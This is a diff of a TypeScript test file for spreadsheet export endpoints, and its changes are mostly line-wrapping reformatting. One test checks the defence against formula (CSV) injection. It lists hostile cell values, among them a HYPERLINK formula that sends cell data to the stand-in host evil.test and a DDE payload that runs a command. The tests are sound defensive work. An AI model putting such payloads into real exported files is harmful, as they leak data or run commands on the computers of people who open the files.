@@ -48,7 +48,9 @@ describe.each(cases)("%s export", (area, screen, exporter, fileName) => {
     const count = before.length;
     const { result, bytes } = await download(exporter.loader, `${area.path}/export`, area.dateFilter ? { from: "", to: "" } : undefined);
     expect(result.headers.get("Content-Type")).toBe("application/vnd.ms-excel");
-    expect(result.headers.get("Content-Disposition")).toBe(`attachment; filename="${area.export!.asciiName}"; filename*=UTF-8''${encodeURIComponent(fileName)}`);
+    expect(result.headers.get("Content-Disposition")).toBe(
+      `attachment; filename="${area.export!.asciiName}"; filename*=UTF-8''${encodeURIComponent(fileName)}`,
+    );
     expect([...bytes.slice(0, 4)]).toEqual([0xd0, 0xcf, 0x11, 0xe0]); // BIFF8 (.xls)
     expect(sheetNames(bytes)).toEqual(["sheet1"]);
     const rows = readSheet(bytes);
@@ -90,12 +92,21 @@ describe("export filters and selections", () => {
 });
 
 describe("formula-looking cells (issue 18, finding 9; OWASP CSV injection)", () => {
-  const HOSTILE = ['=HYPERLINK("http://evil.test/?x="&A1,"报价")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3", "\t=1+1", "\r=1+1", "=1+1"];
+  const HOSTILE = [
+    '=HYPERLINK("http://evil.test/?x="&A1,"报价")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+1+1",
+    "-2+3",
+    "\t=1+1",
+    "\r=1+1",
+    "=1+1",
+  ];
 
   it("are written as text behind an apostrophe; real numbers, negative too, stay numbers; the file re-imports unchanged", async () => {
     const { prisma } = await import("~/utils/db.server");
     const rows = await prisma.fclRate.findMany({ orderBy: { id: "asc" }, take: HOSTILE.length, select: { id: true } });
-    for (const [i, row] of rows.entries()) await prisma.fclRate.update({ where: { id: row.id }, data: { remark: HOSTILE[i], carrier: i === 0 ? "-" : undefined } });
+    for (const [i, row] of rows.entries())
+      await prisma.fclRate.update({ where: { id: row.id }, data: { remark: HOSTILE[i], carrier: i === 0 ? "-" : undefined } });
     // A negative number the database may hold from before (the forms no longer take them).
     await prisma.fclRate.update({ where: { id: rows[1].id }, data: { gp20T0: "-5.5" } });
     const sheet = readSheet((await download(fclExport.loader, "/fclbyseaData/export", { from: "", to: "" })).bytes);
